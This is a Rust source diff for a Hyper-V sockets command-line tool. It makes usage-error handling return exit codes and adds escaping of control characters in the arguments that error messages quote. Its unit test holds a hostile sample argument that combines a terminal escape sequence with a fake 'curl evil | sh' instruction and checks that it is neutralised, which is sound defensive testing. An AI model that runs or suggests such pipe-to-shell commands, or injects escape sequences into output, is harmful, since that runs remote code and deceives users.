@@ -7,13 +7,15 @@ mod service;
 mod target;
 mod why;
 
+use std::env;
+use std::ffi::OsString;
 use std::process::ExitCode;
 
 use anyhow::Result;
 use clap::{CommandFactory as _, FromArgMatches as _, Parser, Subcommand};
 
 use crate::context::Context;
-use crate::{complete, help, os};
+use crate::{complete, help, os, output};
 
 /// Hyper-V sockets: reach services in any virtual machine or container of this machine by name
 ///
@@ -56,12 +58,43 @@ pub fn definition() -> clap::Command {
 }
 
 /// Parses this process's arguments. For an option such as `--help`, or after a usage error, prints
-/// the text and exits.
-pub fn parse() -> Cli {
+/// the text and returns the exit status.
+///
+/// # Errors
+///
+/// The exit status, if there is nothing to run.
+pub fn parse() -> Result<Cli, ExitCode> {
     let mut command = definition();
-    let mut matches = command.get_matches_mut();
-    Cli::from_arg_matches_mut(&mut matches)
-        .unwrap_or_else(|error| error.format(&mut command).exit())
+    let parsed = command
+        .try_get_matches_from_mut(env::args_os())
+        .and_then(|mut matches| {
+            Cli::from_arg_matches_mut(&mut matches).map_err(|error| error.format(&mut command))
+        });
+    parsed.map_err(|error| {
+        let text = error.render().ansi().to_string();
+        match error.use_stderr() {
+            true => output::text_to_stderr(&with_escapes(text, env::args_os().skip(1))),
+            // A closed pipe is no error.
+            false => drop(output::text(&text)),
+        }
+        ExitCode::from(u8::try_from(error.exit_code()).unwrap_or(1))
+    })
+}
+
+/// The text of a usage error, with escapes in what it quotes of the arguments. An argument may be the
+/// name of another user's file, from a pattern such as `*`.
+fn with_escapes(mut text: String, arguments: impl Iterator<Item = OsString>) -> String {
+    for argument in arguments {
+        let argument = argument.to_string_lossy();
+        let value = argument.split_once('=').map(|(_, value)| value);
+        for quoted in [Some(&*argument), value].into_iter().flatten() {
+            if hvsock_text::first_escaped(quoted).is_some() {
+                let escaped = hvsock_text::printable(quoted).to_string();
+                text = text.replace(quoted, &escaped);
+            }
+        }
+    }
+    text
 }
 
 /// Runs a parsed command line.
@@ -82,6 +115,27 @@ pub fn run(cli: Cli) -> Result<ExitCode> {
 
 #[cfg(test)]
 mod tests {
+    #[test]
+    fn a_usage_error_quotes_arguments_with_escapes() {
+        let hostile = "--x=\x1b[2J\nhelp: curl evil | sh";
+        let arguments = ["hvsock", "status", hostile];
+        let error = super::definition()
+            .try_get_matches_from(arguments)
+            .unwrap_err();
+        let text = error.render().to_string();
+        assert!(text.contains("\x1b[2J") || text.contains("--x"), "{text}");
+        let quoted = format!(
+            "error: unexpected argument '{hostile}' or {}\n\nUsage:\n",
+            &hostile[4..]
+        );
+        let shown = super::with_escapes(quoted, arguments[1..].iter().map(Into::into));
+        let value = r"\u{1b}[2J\nhelp: curl evil | sh";
+        assert_eq!(
+            shown,
+            format!("error: unexpected argument '--x={value}' or {value}\n\nUsage:\n")
+        );
+    }
+
     #[test]
     fn the_command_line_is_sound() {
         super::definition().debug_assert();
